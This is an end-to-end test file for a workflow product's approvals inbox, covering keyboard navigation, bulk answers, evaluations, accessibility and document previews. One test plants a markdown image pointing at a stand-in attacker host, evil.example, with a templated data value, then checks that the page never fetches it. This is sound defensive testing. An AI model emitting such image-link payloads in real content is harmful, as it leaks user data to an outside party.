import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { evaluated } from '../screens/evaluated.ts';
import { violationsOf } from '../support/axe.ts';
import { chromiumPath } from '../support/browser.ts';
import { clickCard } from '../support/canvas.ts';
import { poll, useDesk } from '../support/designer.ts';
import { exampleFile } from '../support/examples.ts';
import { ask, until } from '../support/product.ts';
import { aNode, aRow, aStart, reaches, runAgain, startRun } from '../support/running.ts';

interface Question {
  readonly id: string;
  readonly runId: string;
  readonly state: string;
}

describe.skipIf(chromiumPath === undefined)('the inbox', () => {
  const desk = useDesk();
  const open = async () => (await ask<{ items: Question[] }>(desk.product, 'GET', '/approvals?limit=200')).items;
  const stateOf = async ({ id }: Question) => (await ask<Question>(desk.product, 'GET', `/approvals/${id}`)).state;
  /** What the page complained of, but for the form that the server was to refuse. */
  const unexpected = () => desk.complaints.filter((text) => !text.includes('422'));
  const { tabTo } = desk;
  const heading = (name: string) => desk.page.getByRole('heading', { name, level: 2 });
  const title = '=Pay invoice {{ $json.number }}?';
  const evidence = '={{ { supplier: "Acme", ai: { fields: { total: "120.00" }, confidence: { total: 0.62 } }, gate: { doubts: [{ field: "total", why: "below 0.9" }] } } }}'; // biome-ignore format: one expression

  test('is worked by keyboard alone: opened, answered, taken back, answered again, rejected, corrected', async () => {
    const { page } = desk;
    // Nothing that a model or a document wrote is fetched, wherever it stands.
    const strangers: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('evil.example')) strangers.push(request.url());
    });
    const message = '![x](https://evil.example/?q={{ $json.number }}) **Please look.**';
    const approval = aNode('ask', 'human.approval', 'Ask', { parameters: { title, evidence, message: `=${message}` } });
    const { workflowId, runId } = await startRun(desk.product, aRow('Pay', [aStart(), approval]), [{ number: 1 }]);
    const second = await runAgain(desk.product, workflowId, [{ number: 2 }]);
    const form = aNode('ask', 'human.form', 'Correct', {
      parameters: {
        title: 'Correct the total',
        schema: {
          type: 'object',
          properties: {
            total: { type: 'number', title: 'Total' },
            note: { type: 'string', title: 'Note', minLength: 3 },
          },
          required: ['total', 'note'],
        },
      },
    });
    const read = { fields: { total: '12' }, confidence: { total: 0.62 } };
    const third = await startRun(desk.product, aRow('Correct', [aStart(), form]), [
      { total: 12, note: 'ok', ai: read },
    ]);
    const questions = await until(async () => {
      const items = await open();
      return items.length === 3 && items;
    });
    const of = (run: string) => questions.find((each) => each.runId === run) as Question;

    await page.goto(`${desk.product.url}/approvals?kind=form`);
    const rows = page.getByRole('grid', { name: 'Approvals' }).locator('[data-row]');
    await poll(() => rows.count()).toBe(1);
    await page.getByRole('combobox', { name: 'Kind' }).click();
    await page.getByRole('option', { name: 'All kinds' }).click();
    await rows.nth(2).waitFor();
    const first = page.getByRole('link', { name: 'Pay invoice 1?' });
    await tabTo(first);
    await page.keyboard.press('Enter');
    await heading('Pay invoice 1?').waitFor();
    await page.getByRole('button', { name: /^Approve/ }).waitFor();
    await poll(() => page.getByRole('region', { name: 'What a model read' }).textContent()).toMatch(/62 %below 0.9/);
    await page.getByText('Please look.').waitFor();
    expect([await page.locator('main img').count(), strangers]).toEqual([0, []]);
    await desk.shot('approval');
    await page.keyboard.press('a');
    await page.getByText('It takes effect in').waitFor();
    await page.keyboard.press('z');
    await page.getByRole('button', { name: /^Approve/ }).waitFor();
    await poll(() => stateOf(of(runId))).toBe('open');
    await page.keyboard.press('a');
    await page.getByText('It takes effect in').waitFor();

    await page.keyboard.press('j');
    await heading('Pay invoice 2?').waitFor();
    await page.getByRole('button', { name: /^Reject/ }).waitFor();
    await page.keyboard.press('r');
    const reason = page.getByLabel('Reason');
    await poll(() => reason.evaluate((element) => element === document.activeElement)).toBe(true);
    await page.keyboard.type('a duplicate');
    await page.keyboard.press('ControlOrMeta+Enter');
    await page.getByText('It takes effect in').waitFor();
    await tabTo(page.getByRole('link', { name: 'Approvals' }).first());

    await page.keyboard.press('j');
    await heading('Correct the total').waitFor();
    const total = page.getByLabel('Total');
    await tabTo(total);
    await page.keyboard.press('ControlOrMeta+a');
    await page.keyboard.type('13.5');
    await page.getByText('It was: 12').waitFor();
    await tabTo(page.getByRole('button', { name: /^Submit/ }));
    await page.keyboard.press('Enter');
    // The server has something against it, and it is told at the field.
    await page.getByText('must NOT have fewer than 3 characters').first().waitFor();
    const note = page.getByLabel('Note');
    await poll(() => total.inputValue()).toBe('13.5');
    await note.evaluate((element) => element.ownerDocument.body.focus());
    await page.keyboard.press('Shift+Tab');
    await tabTo(note);
    await page.keyboard.press('ControlOrMeta+a');
    await page.keyboard.type('checked');
    await tabTo(page.getByRole('button', { name: /^Submit/ }));
    await page.keyboard.press('Enter');
    await page.getByRole('region', { name: 'What was changed' }).waitFor();
    const changed = await page.getByRole('region', { name: 'What was changed' }).getByRole('row').allTextContents();
    expect(changed.toSorted()).toEqual(['FieldBeforeAfter', 'noteokchecked', 'total1213.5']);
    await desk.shot('form-answered');
    // What people changed of what a model had read says how sure it has to be.
    await page.goto(`${desk.product.url}/workflows/${third.workflowId}/evaluations`);
    const people = page.getByRole('region', { name: 'What people changed' });
    await poll(() => people.getByRole('row').allTextContents()).toEqual([
      'SeenChangedSuggested threshold',
      'total11 · 100%–',
    ]);
    // What was answered counts without this page.
    await page.goto('about:blank');
    await reaches(desk.product, runId, 'succeeded');
    await reaches(desk.product, second, 'succeeded');
    await reaches(desk.product, third.runId, 'succeeded');
    expect(await Promise.all(questions.map(stateOf))).toEqual(['decided', 'decided', 'decided']);
    expect(unexpected()).toEqual([]);
  });

  test('several of one step are answered together after a look at which, and taken back together', async () => {
    const { page } = desk;
    const approval = aNode('ask', 'human.approval', 'Ask', { parameters: { title } });
    const { workflowId } = await startRun(desk.product, aRow('Bulk', [aStart(), approval]), [{ number: 7 }]);
    await until(async () => (await open()).length === 1);
    await runAgain(desk.product, workflowId, [{ number: 8 }]);
    await until(async () => (await open()).length === 2);
    await page.goto(`${desk.product.url}/approvals`);
    for (const number of [7, 8]) await page.getByRole('checkbox', { name: `Mark Pay invoice ${number}?` }).click();
    await page.getByRole('button', { name: 'Answer 2 marked' }).click();
    await page.getByRole('menuitem', { name: 'Approve' }).click();
    const dialog = page.getByRole('dialog');
    await poll(() => dialog.getByRole('listitem').allTextContents()).toEqual(['Pay invoice 7?', 'Pay invoice 8?']);
    await dialog.getByRole('button', { name: 'Approve' }).click();
    await page.getByText('Answered: 2 of 2').first().waitFor();
    await page.getByRole('button', { name: 'Undo' }).click();
    await page.getByText('Taken back: 2 of 2').first().waitFor();
    expect((await open()).length).toBe(2);
  });

  test('a step that asks a model shows how it does on examples, model by model, and where it is wrong', async () => {
    const { page } = desk;
    const { workflow, models } = await evaluated(desk.product);
    await page.goto(`${desk.product.url}/workflows/${workflow}/evaluations`);
    const compared = page.getByTestId('evaluations-compared');
    await poll(() => compared.getByRole('button').count()).toBe(3);
    const small = compared.getByRole('button', { name: /practice-small/ });
    await small.click();
    await poll(() => small.getAttribute('aria-pressed')).toBe('true');
    await page.getByRole('heading', { name: /practice-small is, and how right/ }).waitFor();
    await poll(() => compared.getByRole('row', { name: /^Whole examples right/ }).textContent()).toMatch(/\d+ of 40/);
    await poll(() => page.getByRole('region', { name: 'Costs' }).getByRole('row').allTextContents()).toContainEqual(
      expect.stringMatching(/^Read the invoice120/),
    );
    expect(await violationsOf(page)).toEqual([]);
    // On a phone the first values are beside their names.
    await page.setViewportSize({ width: 360, height: 740 });
    const value = compared
      .getByRole('row', { name: /^Whole examples right/ })
      .getByRole('cell')
      .first();
    await poll(() => value.evaluate((cell) => cell.getBoundingClientRect().right)).toBeLessThanOrEqual(344);
    await page.setViewportSize({ width: 1280, height: 800 });
    await models.close();
    expect(unexpected()).toEqual([]);
  });

  test('is complete on a phone, in both themes, by the rules of accessibility', async () => {
    const { page } = desk;
    const [question] = await open();
    await page.setViewportSize({ width: 320, height: 640 });
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme });
      for (const path of ['/approvals', `/approvals/${question?.id}`]) {
        await page.goto(`${desk.product.url}${path}`);
        await page
          .getByText(/^Pay invoice/)
          .first()
          .waitFor();
        if (path.length > 20) await page.getByRole('button', { name: /^Approve/ }).waitFor();
        expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
        expect(await violationsOf(page)).toEqual([]);
      }
    }
    await desk.shot('approval-320');
    await page.getByRole('button', { name: /^Hand over/ }).click();
    await page.getByRole('dialog').getByLabel('To', { exact: true }).waitFor();
    // It comes up by and by: half transparent, nothing in it has its colours.
    await poll(() => page.getByRole('dialog').evaluate((element) => getComputedStyle(element).opacity)).toBe('1');
    await poll(() => page.evaluate(() => document.getAnimations().length)).toBe(0);
    expect(await violationsOf(page)).toEqual([]);
    expect(unexpected()).toEqual([]);
  });

  /** A question about a document that came as an upload, with the places that a step has found of two fields. */
  async function askAboutDocument(): Promise<Question> {
    const places = {
      total: { page: 1, box: [0.3, 0.42, 0.06, 0.02] },
      number: { page: 1, box: [0.32, 0.17, 0.1, 0.02] },
    };
    const document = aRow('Look', [
      aNode('start', 'trigger.webhook', 'Start'),
      aNode('found', 'core.set', 'Found', {
        parameters: {
          fields: [
            { name: 'ai', value: { document: { file: 'invoice', places } } },
            { name: 'total', value: '600.00' },
          ],
        },
      }),
      aNode('ask', 'human.form', 'Look', {
        parameters: {
          title: 'What does it say?',
          schema: {
            type: 'object',
            properties: { number: { type: 'string', title: 'Number' }, total: { type: 'string', title: 'Total' } },
            required: ['total'],
          },
        },
      }),
    ]);
    const made = await ask<{ id: string; revision: number }>(desk.product, 'POST', '/workflows', { document });
    await ask(desk.product, 'POST', `/workflows/${made.id}/publish`, { baseRevision: made.revision });
    const { webhooks } = await ask<{ webhooks: Record<string, { url: string }> }>(
      desk.product,
      'GET',
      `/workflows/${made.id}`,
    );
    const url = webhooks.start?.url ?? '';
    const form = new FormData();
    const bytes = readFileSync(exampleFile('supplier-invoices/invoices/01-paper.pdf'));
    form.set('invoice', new File([bytes], 'paper.pdf', { type: 'application/pdf' }));
    const reply = await fetch(url, { method: 'POST', body: form });
    const { runId } = (await reply.json()) as { runId: string };
    return until(async () => (await open()).find((each) => each.runId === runId));
  }

  test('shows the document beside the form, and the place of the field that one is at; so do the details of a step', async () => {
    const { page } = desk;
    const { id, runId } = await askAboutDocument();
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme });
      await page.setViewportSize({ width: 1280, height: 800 });
      await page.goto(`${desk.product.url}/approvals/${id}`);
      const picture = page.getByRole('img', { name: 'Page 1 of paper.pdf' });
      await poll(() => picture.evaluate((image) => (image as HTMLImageElement).naturalWidth)).toBeGreaterThan(500);
      const chosen = page.getByTestId('document').locator('[data-chosen]');
      await tabTo(page.getByRole('textbox', { name: 'Total' }));
      await poll(() => chosen.getAttribute('data-field')).toBe('total');
      // It stands where it was said to stand, on the page as it is drawn.
      await poll(async () => {
        const [mark, sheet] = [await chosen.boundingBox(), await picture.boundingBox()];
        if (!mark || !sheet) return null;
        return [(mark.x - sheet.x) / sheet.width, (mark.y - sheet.y) / sheet.height].map((share) => share.toFixed(2));
      }).toEqual(['0.30', '0.42']);
      await desk.shot(`document-${colorScheme}`);
      const number = page.getByTestId('document').getByRole('button', { name: 'number' });
      await number.focus();
      await page.keyboard.press('Enter');
      await poll(() => chosen.getAttribute('data-field')).toBe('number');
      expect(await number.getAttribute('aria-pressed')).toBe('true');
      await page.setViewportSize({ width: 320, height: 640 });
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
      expect(await violationsOf(page)).toEqual([]);
    }
    await desk.shot('document-320');
    await page.setViewportSize({ width: 1280, height: 800 });
    await page.goto(`${desk.product.url}/runs/${runId}`);
    await clickCard(page, 'found');
    const output = page.getByTestId('items-output');
    await output.getByRole('button', { name: 'paper.pdf' }).click();
    await output.getByRole('button', { name: 'total' }).click();
    await poll(() => output.locator('[data-chosen]').getAttribute('data-field')).toBe('total');
    await desk.shot('document-of-a-step');
    expect(unexpected()).toEqual([]);
  });
});
